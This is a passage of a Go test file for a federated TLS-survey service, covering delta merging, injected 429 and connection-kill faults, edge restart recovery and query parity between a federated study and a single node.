	// A gap (base beyond the cursor) is accepted and counted: the edge knows
	// its own log, the core only tracks what it was told.
	gap := fedShard(3, 2)
	status, _ = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-b", Base: 100, Agg: gap})
	if status != http.StatusOK {
		t.Fatalf("gap delta: %d", status)
	}

	// An empty delta is an acked no-op ping.
	status, ack = postDeltaFrame(t, ts.URL, &federation.Delta{Source: "edge-a", Base: both.Generation(), Agg: notary.NewAggregate()})
	if status != http.StatusOK || ack.Records != 0 || ack.AppliedThrough != both.Generation() {
		t.Fatalf("empty delta: %d %+v", status, ack)
	}

	// Garbage is rejected up front.
	resp, err := http.Post(ts.URL+"/merge", federation.ContentTypeDelta, strings.NewReader("not a delta"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("garbage delta: %d, want 400", resp.StatusCode)
	}

	// The study saw federated ingest as ordinary ingest.
	records, _, gen, err := srv.Study().Counts()
	if err != nil {
		t.Fatal(err)
	}
	wantGen := both.Generation() + gap.Generation()
	if gen != wantGen || records != both.TotalRecords()+gap.TotalRecords() {
		t.Fatalf("study at (%d records, gen %d), want (%d, %d)",
			records, gen, both.TotalRecords()+gap.TotalRecords(), wantGen)
	}

	// /healthz reports the core federation block.
	var health struct {
		Federation *struct {
			Core *struct {
				DeltasApplied uint64 `json:"deltas_applied"`
				Records       uint64 `json:"records"`
				Gaps          uint64 `json:"gaps"`
				LastMergeGen  uint64 `json:"last_merge_generation"`
				Sources       map[string]struct {
					Deltas         uint64 `json:"deltas"`
					Records        uint64 `json:"records"`
					AppliedThrough uint64 `json:"applied_through"`
				} `json:"sources"`
			} `json:"core"`
		} `json:"federation"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	fed := health.Federation
	if fed == nil || fed.Core == nil {
		t.Fatal("healthz missing federation core block")
	}
	if fed.Core.DeltasApplied != 3 || fed.Core.Gaps != 1 || fed.Core.LastMergeGen != wantGen {
		t.Fatalf("core block %+v, want 3 deltas, 1 gap, last gen %d", fed.Core, wantGen)
	}
	if src, ok := fed.Core.Sources["edge-a"]; !ok || src.AppliedThrough != both.Generation() || src.Deltas != 2 {
		t.Fatalf("edge-a source gauges %+v", fed.Core.Sources)
	}
}

// TestUnionValidation pins Union's assembly-time errors.
func TestUnionValidation(t *testing.T) {
	rt := NewRouter()
	if err := rt.Add("eu", NewServer(core.NewLiveStudy())); err != nil {
		t.Fatal(err)
	}
	if err := rt.Union("global", NewServer(core.NewLiveStudy())); err == nil {
		t.Fatal("union with no members accepted")
	}
	if err := rt.Union("global", NewServer(core.NewLiveStudy()), "nope"); err == nil {
		t.Fatal("union with unknown member accepted")
	}
	if err := rt.Union("global", NewServer(core.NewLiveStudy()), "global"); err == nil {
		t.Fatal("self-membered union accepted")
	}
	if err := rt.Union("global", NewServer(core.NewLiveStudy()), "eu"); err != nil {
		t.Fatalf("valid union rejected: %v", err)
	}
}

// faultGate injects upstream faults in front of a router: per /merge
// request number it can shed with 429 or kill the connection after
// optionally applying — the two failure classes an edge must survive.
type faultGate struct {
	next http.Handler
	n    atomic.Uint64
	// plan maps a 1-based /merge request number to a fault: "429" sheds
	// before anything applies, "kill" cuts the connection without a reply,
	// "apply-kill" lets the merge apply and then cuts the reply (lost ack).
	plan map[uint64]string
}

func (g *faultGate) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/merge") {
		switch g.plan[g.n.Add(1)] {
		case "429":
			w.Header().Set("Retry-After", "0")
			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "injected fault"})
			return
		case "kill":
			hijackClose(w)
			return
		case "apply-kill":
			g.next.ServeHTTP(&discardResponseWriter{}, r)
			hijackClose(w)
			return
		}
	}
	g.next.ServeHTTP(w, r)
}

func hijackClose(w http.ResponseWriter) {
	if hj, ok := w.(http.Hijacker); ok {
		if conn, _, err := hj.Hijack(); err == nil {
			conn.Close()
		}
	}
}

// discardResponseWriter swallows the response on the apply-kill path.
type discardResponseWriter struct{ h http.Header }

func (d *discardResponseWriter) Header() http.Header {
	if d.h == nil {
		d.h = make(http.Header)
	}
	return d.h
}
func (d *discardResponseWriter) Write(b []byte) (int, error) { return len(b), nil }
func (d *discardResponseWriter) WriteHeader(int)             {}

// splitLog cuts a TSV record log into n roughly equal line chunks.
func splitLog(log []byte, n int) [][]byte {
	lines := bytes.SplitAfter(log, []byte("\n"))
	chunks := make([][]byte, n)
	per := (len(lines) + n - 1) / n
	for i := 0; i < n; i++ {
		lo := i * per
		hi := lo + per
		if lo > len(lines) {
			lo = len(lines)
		}
		if hi > len(lines) {
			hi = len(lines)
		}
		chunks[i] = bytes.Join(lines[lo:hi], nil)
	}
	return chunks
}

// flushUntilAcked drives a pusher through injected faults: each failed
// flush retains the delta, and the retry must eventually apply.
func flushUntilAcked(t *testing.T, p *federation.Pusher) {
	t.Helper()
	var err error
	for attempt := 0; attempt < 10; attempt++ {
		if err = p.Flush(); err == nil {
			return
		}
	}
	t.Fatalf("flush never succeeded: %v", err)
}

// TestFederationParity is the tentpole acceptance test: a `global` study
// fed by two edge collectors over delta frames — across injected 429 and
// connection-kill faults — answers /scalars and a sweep of /query
// expressions byte-identical to a single node that ingested the
// concatenated record logs.
func TestFederationParity(t *testing.T) {
	log, _ := sharedLog(t)

	// Core: eu and us merge targets (one queued, one inline) plus the global
	// union study over both.
	rt := NewRouter()
	eu := NewServer(core.NewLiveStudy())
	us := NewServer(core.NewLiveStudy(), WithQueueBound(16))
	if err := rt.Add("eu", eu); err != nil {
		t.Fatal(err)
	}
	if err := rt.Add("us", us); err != nil {
		t.Fatal(err)
	}
	global := NewServer(core.NewLiveStudy())
	if err := rt.Union("global", global, "eu", "us"); err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	// Faults: the eu edge's first push is shed with 429; the us edge's first
	// push dies mid-connection; the eu edge's third push applies upstream but
	// loses the ack (the duplicate-detection path).
	gate := &faultGate{next: rt.Handler(), plan: map[uint64]string{
		1: "429",
		2: "kill",
		5: "apply-kill",
	}}
	coreTS := httptest.NewServer(gate)
	defer coreTS.Close()

	// Edges: standalone collectors, each teeing merged shards into a pusher
	// aimed at its core study. Hour-long timers — the test drives every push
	// explicitly.
	newEdge := func(source, target string, flushEvery int) (*Server, *federation.Pusher) {
		p, err := federation.NewPusher(federation.PusherOptions{
			Source:    source,
			Upstream:  coreTS.URL + "/studies/" + target,
			Interval:  time.Hour,
			BaseDelay: time.Millisecond,
			Rand:      func() float64 { return 0 },
		})
		if err != nil {
			t.Fatal(err)
		}
		return NewServer(core.NewLiveStudy(), WithFlushEvery(flushEvery), WithPusher(p)), p
	}
	edge1, p1 := newEdge("vantage-eu", "eu", 61)
	edge2, p2 := newEdge("vantage-us", "us", 89)

	halves := splitLog(log, 2)
	// Interleave ingest and pushes so each edge ships multiple deltas with
	// advancing bases, with faults landing between them.
	e1parts := splitLog(halves[0], 3)
	e2parts := splitLog(halves[1], 2)
	feed := func(srv *Server, part []byte) {
		t.Helper()
		if _, err := srv.ingest(bytes.NewReader(part), false); err != nil {
			t.Fatalf("edge ingest: %v", err)
		}
	}
	feed(edge1, e1parts[0])
	flushUntilAcked(t, p1) // attempt 1: 429, retry applies
	feed(edge2, e2parts[0])
	flushUntilAcked(t, p2) // attempt: kill, retry applies
	feed(edge1, e1parts[1])
	flushUntilAcked(t, p1) // lands on the apply-kill attempt, retry sees duplicate
	feed(edge1, e1parts[2])
	feed(edge2, e2parts[1])
	// Close ships the final deltas (and must survive any remaining faults).
	if err := edge1.Close(); err != nil {
		t.Fatalf("closing edge1: %v", err)
	}
	if err := edge2.Close(); err != nil {
		t.Fatalf("closing edge2: %v", err)
	}

	// Reference: one node ingesting the concatenated logs the edges split.
	ref := NewServer(core.NewLiveStudy())
	defer ref.Close()
	if _, err := ref.ingest(bytes.NewReader(log), false); err != nil {
		t.Fatal(err)
	}
	refTS := httptest.NewServer(ref.Handler())
	defer refTS.Close()

	gotScalars := mustGet(t, coreTS.URL+"/studies/global/scalars")
	wantScalars := mustGet(t, refTS.URL+"/scalars")
	if !bytes.Equal(gotScalars, wantScalars) {
		t.Fatalf("federated /scalars differs from single-node ingest:\n%s\n---\n%s", gotScalars, wantScalars)
	}

	for _, q := range []string{
		"pct(version:tls12 / established)",
		"pct(version:ssl3 / total)",
		"pct(class:rc4 / established)",
		"pct(sum(kex:ecdhe, kex:tls13) / established)",
		"pct(fp:* / established)",
		"pct(agent:libraries / fp-conns)",
		"over(agent:* / fp-conns)",
		"count(established)",
		"mean(pct(version:tls12 / established))",
	} {
		body, err := json.Marshal(map[string]string{"query": q})
		if err != nil {
			t.Fatal(err)
		}
		post := func(url string) []byte {
			resp, err := http.Post(url+"/query", "application/json", bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			raw, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			if err != nil || resp.StatusCode != http.StatusOK {
				t.Fatalf("POST %s %q: %d %v: %s", url, q, resp.StatusCode, err, raw)
			}
			return raw
		}
		got := post(coreTS.URL + "/studies/global")
		want := post(refTS.URL)
		if !bytes.Equal(got, want) {
			t.Errorf("query %q: federated answer differs:\n%s\n---\n%s", q, got, want)
		}
	}

	// The member studies hold exactly their edge's half.
	for i, id := range []string{"eu", "us"} {
		srv, _ := rt.Server(id)
		half := core.NewLiveStudy()
		shard := half.NewShard()
		if err := notary.ReadLog(bytes.NewReader(halves[i]), shard); err != nil {
			t.Fatal(err)
		}
		_, _, gen, err := srv.Study().Counts()
		if err != nil {
			t.Fatal(err)
		}
		if gen != shard.Generation() {
			t.Errorf("study %s at generation %d, want %d", id, gen, shard.Generation())
		}
	}

	// Edge healthz reports the federation edge block.
	edgeTS := httptest.NewServer(edge1.Handler())
	defer edgeTS.Close()
	var health struct {
		Federation *struct {
			Edge *struct {
				Source         string  `json:"source"`
				DeltasShipped  uint64  `json:"deltas_shipped"`
				ShippedThrough uint64  `json:"shipped_through"`
				Retained       uint64  `json:"retained_records"`
				LastPushAge    float64 `json:"last_push_age_seconds"`
				Errors         uint64  `json:"upstream_errors"`
			} `json:"edge"`
		} `json:"federation"`
	}
	if err := json.Unmarshal(mustGet(t, edgeTS.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	fed := health.Federation
	if fed == nil || fed.Edge == nil {
		t.Fatal("edge healthz missing federation edge block")
	}
	edge := fed.Edge
	if edge.Source != "vantage-eu" || edge.Retained != 0 || edge.DeltasShipped == 0 || edge.Errors == 0 {
		t.Fatalf("edge block %+v: want source vantage-eu, 0 retained, >0 shipped, >0 errors", edge)
	}
	if edge.LastPushAge < 0 {
		t.Fatal("edge block LastPushAge still -1 after shipped deltas")
	}

	// The global server's healthz lists both children with their volumes.
	var gh struct {
		Federation *struct {
			Core *struct {
				Children map[string]struct {
					Shards  uint64 `json:"shards"`
					Records uint64 `json:"records"`
				} `json:"children"`
			} `json:"core"`
		} `json:"federation"`
	}
	if err := json.Unmarshal(mustGet(t, coreTS.URL+"/studies/global/healthz"), &gh); err != nil {
		t.Fatal(err)
	}
	if gh.Federation == nil || gh.Federation.Core == nil {
		t.Fatal("global healthz missing federation core block")
	}
	kids := gh.Federation.Core.Children
	if len(kids) != 2 || kids["eu"].Records == 0 || kids["us"].Records == 0 {
		t.Fatalf("global children gauges %+v", kids)
	}
}

// windowSink delivers at most n records into agg, silently dropping the
// rest — the replay-a-range helper for the restart tests.
type windowSink struct {
	agg *notary.Aggregate
	n   uint64
}

func (ws *windowSink) Observe(r *notary.Record) error {
	if ws.n == 0 {
		return nil
	}
	ws.n--
	return ws.agg.Observe(r)
}

func (ws *windowSink) Close() error { return nil }

// replayRange rebuilds the merged contributions of log records
// [from, from+n) — the durable-log replay an edge runs at startup (and the
// Rebase hook runs after a conflict). Shards come from a classifier-bearing
// study so attribution matches the live ingest path.
func replayRange(t *testing.T, log []byte, from, n uint64) *notary.Aggregate {
	t.Helper()
	shard := core.NewLiveStudy().NewShard()
	delivered, _, err := notary.ReadLogTail(bytes.NewReader(log), from, &windowSink{agg: shard, n: n})
	if err != nil {
		t.Fatalf("replaying log tail from %d: %v", from, err)
	}
	if delivered < n {
		t.Fatalf("log tail from %d delivered %d records, want at least %d", from, delivered, n)
	}
	return shard
}

// TestEdgeRestartNoReship pins restart correctness for the edge cursor: an
// edge recovering from its durable log must never re-ship already-acked
// records, across three crash shapes — a clean restart, a crash that lost
// the final ack (duplicate re-push), and a kill mid-push where the server
// applied a delta the edge never heard about and more records arrived
// before the crash (409 → rebase).
func TestEdgeRestartNoReship(t *testing.T) {
	log, _ := sharedLog(t)
	total := func() uint64 {
		shard := core.NewLiveStudy().NewShard()
		if err := notary.ReadLog(bytes.NewReader(log), shard); err != nil {
			t.Fatal(err)
		}
		return shard.Generation()
	}()
	if total < 30 {
		t.Fatalf("shared log too small for the restart scenarios: %d records", total)
	}
	k1, k2 := total/3, 2*total/3

	// check runs one crash/restart scenario and verifies the core holds the
	// whole log exactly once afterwards.
	check := func(t *testing.T, scenario func(t *testing.T, coreURL, statePath string)) {
		srv := NewServer(core.NewLiveStudy())
		defer srv.Close()
		ts := httptest.NewServer(srv.Handler())
		defer ts.Close()
		statePath := filepath.Join(t.TempDir(), "shipped.gen")
		scenario(t, ts.URL, statePath)

		_, _, gen, err := srv.Study().Counts()
		if err != nil {
			t.Fatal(err)
		}
		if gen != total {
			t.Fatalf("core at generation %d after restart scenario, want %d (records lost or re-shipped)", gen, total)
		}
		// Byte-level: the core's scalars equal a study that loaded the log
		// directly.
		refStudy := core.NewStudyFromAggregate(replayRange(t, log, 0, total))
		ref := httptest.NewServer(NewServer(refStudy).Handler())
		defer ref.Close()
		got := mustGet(t, ts.URL+"/scalars")
		want := mustGet(t, ref.URL+"/scalars")
		if !bytes.Equal(got, want) {
			t.Fatal("core scalars differ from direct log load after restart scenario")
		}
	}

	newPusher := func(t *testing.T, coreURL, statePath string, shipped uint64, initial *notary.Aggregate, rebase func(from uint64) (*notary.Aggregate, error)) *federation.Pusher {
		t.Helper()
		p, err := federation.NewPusher(federation.PusherOptions{
			Source:    "edge-restart",
			Upstream:  coreURL,
			Interval:  time.Hour,
			BaseDelay: time.Millisecond,
			Rand:      func() float64 { return 0 },
			Shipped:   shipped,
			Initial:   initial,
			StatePath: statePath,
			Rebase:    rebase,
		})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	loadState := func(t *testing.T, statePath string) uint64 {
		t.Helper()
		gen, err := federation.LoadShippedState(statePath)
		if err != nil {
			t.Fatal(err)
		}
		return gen
	}

	t.Run("clean-restart", func(t *testing.T) {
		check(t, func(t *testing.T, coreURL, statePath string) {
			// Session 1: ship the first k1 records, acked and persisted.
			p1 := newPusher(t, coreURL, statePath, 0, nil, nil)
			p1.Observe(replayRange(t, log, 0, k1))
			if err := p1.Flush(); err != nil {
				t.Fatalf("session 1 flush: %v", err)
			}
			// Crash: p1 abandoned without Close.

			// Session 2: recover the cursor, replay the unshipped tail.
			shipped := loadState(t, statePath)
			if shipped != k1 {
				t.Fatalf("recovered cursor %d, want %d", shipped, k1)
			}
			p2 := newPusher(t, coreURL, statePath, shipped, replayRange(t, log, shipped, total-shipped), nil)
			if err := p2.Close(); err != nil {
				t.Fatalf("session 2 close: %v", err)
			}
		})
	})

	t.Run("lost-ack-duplicate", func(t *testing.T) {
		check(t, func(t *testing.T, coreURL, statePath string) {
			// Session 1 ships k1 records but the server's ack never arrives
			// (apply-kill), so the persisted cursor stays 0.
			client := &http.Client{Transport: &applyKillOnce{}}
			p1, err := federation.NewPusher(federation.PusherOptions{
				Source: "edge-restart", Upstream: coreURL, Interval: time.Hour,
				BaseDelay: time.Millisecond, Rand: func() float64 { return 0 },
				StatePath: statePath, Client: client,
			})
			if err != nil {
				t.Fatal(err)
			}
			p1.Observe(replayRange(t, log, 0, k1))
			if err := p1.Flush(); err == nil {
				t.Fatal("session 1 flush succeeded despite killed ack")
			}
			// Crash before any retry.

			// Session 2: the stale cursor replays from 0; the re-push is a
			// duplicate the server acks without re-applying, then the rest
			// ships normally.
			shipped := loadState(t, statePath)
			if shipped != 0 {
				t.Fatalf("recovered cursor %d, want 0 (ack was lost)", shipped)
			}
			p2 := newPusher(t, coreURL, statePath, 0, replayRange(t, log, 0, k1), nil)
			if err := p2.Flush(); err != nil {
				t.Fatalf("duplicate re-push: %v", err)
			}
			p2.Observe(replayRange(t, log, k1, total-k1))
			if err := p2.Close(); err != nil {
				t.Fatalf("session 2 close: %v", err)
			}
		})
	})

	t.Run("kill-mid-push-rebase", func(t *testing.T) {
		check(t, func(t *testing.T, coreURL, statePath string) {
			// Session 1: first delta [0,k1) acked and persisted; second delta
			// [k1,k2) applied upstream but the ack killed; more records
			// [k2,total) logged but never pushed; crash.
			client := &http.Client{Transport: &applyKillOnce{skip: 1}}
			p1, err := federation.NewPusher(federation.PusherOptions{
				Source: "edge-restart", Upstream: coreURL, Interval: time.Hour,
				BaseDelay: time.Millisecond, Rand: func() float64 { return 0 },
				StatePath: statePath, Client: client,
			})
			if err != nil {
				t.Fatal(err)
			}
			p1.Observe(replayRange(t, log, 0, k1))
			if err := p1.Flush(); err != nil {
				t.Fatalf("session 1 first flush: %v", err)
			}
			p1.Observe(replayRange(t, log, k1, k2-k1))
			if err := p1.Flush(); err == nil {
				t.Fatal("session 1 second flush succeeded despite killed ack")
			}
			// Crash with cursor k1 persisted and the upstream at k2.

			// Session 2: replaying from the stale cursor overlaps what the
			// upstream already applied — the push conflicts and the rebase
			// hook replays past the server's cursor.
			shipped := loadState(t, statePath)
			if shipped != k1 {
				t.Fatalf("recovered cursor %d, want %d", shipped, k1)
			}
			var rebasedFrom uint64
			p2 := newPusher(t, coreURL, statePath, shipped,
				replayRange(t, log, shipped, total-shipped),
				func(from uint64) (*notary.Aggregate, error) {
					rebasedFrom = from
					return replayRange(t, log, from, total-from), nil
				})
			if err := p2.Close(); err != nil {
				t.Fatalf("session 2 close: %v", err)
			}
			if rebasedFrom != k2 {
				t.Fatalf("rebase hook saw cursor %d, want %d", rebasedFrom, k2)
			}
		})
	})
}

// applyKillOnce is a RoundTripper that lets one request through to the
// server but reports a transport error instead of the response — the lost
// ack. skip counts requests passed through untouched first.
type applyKillOnce struct {
	skip  int
	fired bool
}

func (a *applyKillOnce) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		return resp, err
	}
	if !a.fired {
		if a.skip > 0 {
			a.skip--
			return resp, nil
		}
		a.fired = true
		resp.Body.Close()
		return nil, fmt.Errorf("injected fault: connection lost after server processed the request")
	}
	return resp, nil
}

// TestScanCampaignMergeParity: POST /merge doubles as the ingest path for
// externally-run scan campaigns — a pre-aggregated sweep pushed as one
// delta answers every query byte-identical to `tlstrend scansweep -serve`
// hosting the same reports locally (core.NewScanStudy).
func TestScanCampaignMergeParity(t *testing.T) {
	months := []timeline.Month{
		timeline.M(2015, time.September),
		timeline.M(2016, time.June),
		timeline.M(2018, time.May),
	}
	reports := []*core.CampaignReport{
		scanReport(200, 90, 180, 22, 108, 1, 68, 38, 56, 3),
		scanReport(150, 55, 140, 12, 70, 1, 48, 21, 30, 1),
		scanReport(180, 45, 175, 6, 63, 0, 61, 34, 2, 0),
	}

	// The local path: the sweep's own study, as scansweep -serve hosts it.
	local, err := core.NewScanStudy(months, reports)
	if err != nil {
		t.Fatal(err)
	}
	localTS := httptest.NewServer(NewServer(local).Handler())
	defer localTS.Close()

	// The federated path: the campaign aggregates externally and pushes one
	// delta to an empty hosted study.
	agg, err := core.ScanAggregate(months, reports)
	if err != nil {
		t.Fatal(err)
	}
	hosted := NewServer(core.NewLiveStudy())
	defer hosted.Close()
	hostedTS := httptest.NewServer(hosted.Handler())
	defer hostedTS.Close()
	ack, err := federation.PushDelta(hostedTS.URL, &federation.Delta{Source: "campaign-2018", Agg: agg}, nil)
	if err != nil {
		t.Fatalf("PushDelta: %v", err)
	}
	if ack.Records != agg.Generation() {
		t.Fatalf("campaign push applied %d records, want %d", ack.Records, agg.Generation())
	}

	for _, q := range []string{
		"pct(version:ssl3 / total)",
		"pct(class:rc4 / total)",
		"pct(class:cbc / total)",
		"pct(class:3des / total)",
		"pct(adv-rc4 / total)",
		"pct(adv-export / total)",
		"pct(offers-heartbeat / total)",
		"pct(heartbeat-ack / total)",
		"at(pct(class:rc4 / total), 2015-09)",
	} {
		body, err := json.Marshal(map[string]string{"query": q})
		if err != nil {
			t.Fatal(err)
		}
		post := func(url string) []byte {
			resp, err := http.Post(url+"/query", "application/json", bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			raw, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			if err != nil || resp.StatusCode != http.StatusOK {
				t.Fatalf("POST %s %q: %d %v: %s", url, q, resp.StatusCode, err, raw)
			}
			return raw
		}
		got := post(hostedTS.URL)
		want := post(localTS.URL)
		if !bytes.Equal(got, want) {
			t.Errorf("query %q: merged campaign differs from local scan study:\n%s\n---\n%s", q, got, want)
		}
	}
	got := mustGet(t, hostedTS.URL+"/scalars")
	want := mustGet(t, localTS.URL+"/scalars")
	if !bytes.Equal(got, want) {
		t.Fatal("merged campaign /scalars differs from local scan study")
	}
}
